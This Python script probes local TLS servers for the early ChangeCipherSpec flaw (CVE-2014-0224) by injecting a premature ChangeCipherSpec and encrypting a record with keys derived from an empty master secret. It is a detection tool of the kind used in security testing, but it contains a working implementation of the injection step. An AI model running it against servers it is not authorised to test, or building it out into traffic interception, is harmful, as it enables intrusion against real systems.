"""Does a server truly take a ChangeCipherSpec too early (CVE-2014-0224)? `python early_change.py PORT…`, AES from `cryptography`.

A ChangeCipherSpec before the key exchange makes a server with the fault derive its keys from a master secret of no bytes, which
anyone can do too. So a record encrypted with those keys is read and the connection stays open, while one encrypted with other
keys ends it. Nothing of the server is read or changed; the handshake never ends. Probers that wait for an alert overlook servers
that close without one, as Node 0.10 does.
"""

import hashlib
import hmac
import os
import socket
import struct
import sys

from cryptography.hazmat.primitives.ciphers import Cipher, algorithms, modes

HELLO_DONE = b"\x0e\0\0\0"


def expanded(digest, secret, seed, count):
    out, state = b"", seed
    while len(out) < count:
        state = hmac.new(secret, state, digest).digest()
        out += hmac.new(secret, state + seed, digest).digest()
    return out[:count]


def keys(secret, server, client):
    """The key block of TLS 1.0 (RFC 2246 sections 5 and 6.3) for AES-128-CBC with SHA-1: MAC key, key, IV of the client."""
    half, seed = (len(secret) + 1) // 2, b"key expansion" + server + client
    first = expanded(hashlib.md5, secret[:half], seed, 104)
    second = expanded(hashlib.sha1, secret[len(secret) - half:], seed, 104)
    block = bytes(a ^ b for a, b in zip(first, second))
    return block[:20], block[40:56], block[72:88]


def stays_open(port, secret):
    client = os.urandom(32)
    body = b"\3\1" + client + b"\0" + b"\0\2\0\x2f" + b"\1\0" + b"\0\5\xff\1\0\1\0"
    message = b"\1" + len(body).to_bytes(3, "big") + body
    with socket.create_connection(("127.0.0.1", port), timeout=3) as stream:
        stream.sendall(b"\x16\3\1" + struct.pack(">H", len(message)) + message)
        flight = b""
        while not flight.endswith(HELLO_DONE):
            part = stream.recv(5000)
            if not part:
                raise ConnectionError("no flight")
            flight += part
        mac, key, vector = keys(secret, flight[11:43], client)
        stream.sendall(b"\x14\3\1\0\1\1")
        # A ClientKeyExchange whose content nobody can read: a server goes on with a secret of chance and says nothing.
        content = b"\x10\0\1\2\1\0\1" + os.urandom(255)
        head = b"\x16\3\1"
        tag = hmac.new(mac, bytes(8) + head + struct.pack(">H", len(content)) + content, hashlib.sha1).digest()
        plain = content + tag
        pad = 16 - len(plain) % 16
        encryptor = Cipher(algorithms.AES(key), modes.CBC(vector)).encryptor()
        sealed = encryptor.update(plain + bytes([pad - 1]) * pad) + encryptor.finalize()
        try:
            stream.sendall(head + struct.pack(">H", len(sealed)) + sealed)
            stream.settimeout(1)
            stream.recv(100)
            return False
        except TimeoutError:
            return True
        except OSError:
            return False


for port in map(int, sys.argv[1:]):
    empty, other = stays_open(port, b""), stays_open(port, os.urandom(48))
    print(port, "vulnerable" if empty and not other else "not vulnerable", f"(empty secret: {empty}, other: {other})")
